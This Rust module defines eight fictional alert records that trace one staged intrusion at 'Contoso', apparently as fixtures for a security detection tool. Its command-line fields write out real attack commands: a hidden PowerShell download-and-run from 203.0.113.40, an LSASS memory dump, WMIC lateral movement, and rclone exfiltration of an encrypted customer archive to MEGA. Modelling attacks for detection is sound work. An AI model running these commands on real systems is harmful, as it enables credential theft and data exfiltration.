//! One intrusion in eight stages: a mail is opened on Monday, and the customer list is gone.

use super::Sighting;

const PATIENT_ZERO: &str = "WS-HR-04";
const FILE_SERVER: &str = "SRV-FILES-01";
const VICTIM: &str = r"CONTOSO\m.okafor";
const STOLEN_ADMIN: &str = r"CONTOSO\adm-files";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

pub(super) const STAGES: [Sighting; 8] = [
    PHISHING,
    EXECUTION,
    PERSISTENCE,
    DISCOVERY,
    CREDENTIALS,
    LATERAL_MOVEMENT,
    COLLECTION,
    EXFILTRATION,
];

const PHISHING: Sighting = Sighting {
    title: "Phishing attachment opened: a script in a mailed archive",
    severity: 55,
    tactic: "Initial Access",
    technique: "T1566.001",
    host: PATIENT_ZERO,
    user: VICTIM,
    image: "wscript.exe",
    path: r"C:\Windows\System32\wscript.exe",
    command_line: r#"wscript.exe "C:\Users\m.okafor\Downloads\Invoice_4471\invoice.pdf.js""#,
    parent: "OUTLOOK.EXE",
};

const EXECUTION: Sighting = Sighting {
    title: "The script fetches and runs its second stage",
    severity: 70,
    tactic: "Execution",
    technique: "T1059.001",
    host: PATIENT_ZERO,
    user: VICTIM,
    image: "powershell.exe",
    path: POWERSHELL,
    command_line: "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient)\
        .DownloadString('http://203.0.113.40/a')\"",
    parent: "wscript.exe",
};

const PERSISTENCE: Sighting = Sighting {
    title: "A run key brings it back after a restart",
    severity: 50,
    tactic: "Persistence",
    technique: "T1547.001",
    host: PATIENT_ZERO,
    user: VICTIM,
    image: "reg.exe",
    path: r"C:\Windows\System32\reg.exe",
    command_line: r#"reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d "C:\Users\m.okafor\AppData\Roaming\updater.exe" /f"#,
    parent: "powershell.exe",
};

const DISCOVERY: Sighting = Sighting {
    title: "It asks who administers the domain",
    severity: 35,
    tactic: "Discovery",
    technique: "T1069.002",
    host: PATIENT_ZERO,
    user: VICTIM,
    image: "net.exe",
    path: r"C:\Windows\System32\net.exe",
    command_line: r#"net.exe group "Domain Admins" /domain"#,
    parent: "cmd.exe",
};

const CREDENTIALS: Sighting = Sighting {
    title: "LSASS memory written to a file",
    severity: 85,
    tactic: "Credential Access",
    technique: "T1003.001",
    host: PATIENT_ZERO,
    user: r"NT AUTHORITY\SYSTEM",
    image: "rundll32.exe",
    path: r"C:\Windows\System32\rundll32.exe",
    command_line: r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 612 C:\Windows\Temp\l.dmp full",
    parent: "powershell.exe",
};

const LATERAL_MOVEMENT: Sighting = Sighting {
    title: "The stolen account starts a process on the file server",
    severity: 75,
    tactic: "Lateral Movement",
    technique: "T1047",
    host: PATIENT_ZERO,
    user: STOLEN_ADMIN,
    image: "WMIC.exe",
    path: r"C:\Windows\System32\wbem\WMIC.exe",
    command_line: r#"wmic.exe /node:SRV-FILES-01 process call create "cmd.exe /c C:\ProgramData\u.exe""#,
    parent: "cmd.exe",
};

const COLLECTION: Sighting = Sighting {
    title: "Customer data packed into an encrypted archive",
    severity: 60,
    tactic: "Collection",
    technique: "T1560.001",
    host: FILE_SERVER,
    user: STOLEN_ADMIN,
    image: "rar.exe",
    path: r"C:\ProgramData\rar.exe",
    command_line: r"rar.exe a -r -hpQ7x!vv -v500m C:\ProgramData\c.rar D:\Shares\Customers",
    parent: "u.exe",
};

const EXFILTRATION: Sighting = Sighting {
    title: "The archive leaves for a cloud storage",
    severity: 80,
    tactic: "Exfiltration",
    technique: "T1567.002",
    host: FILE_SERVER,
    user: STOLEN_ADMIN,
    image: "rclone.exe",
    path: r"C:\ProgramData\rclone.exe",
    command_line: r"rclone.exe copy C:\ProgramData\c.rar mega:drop --transfers 16 --no-check-certificate",
    parent: "u.exe",
};
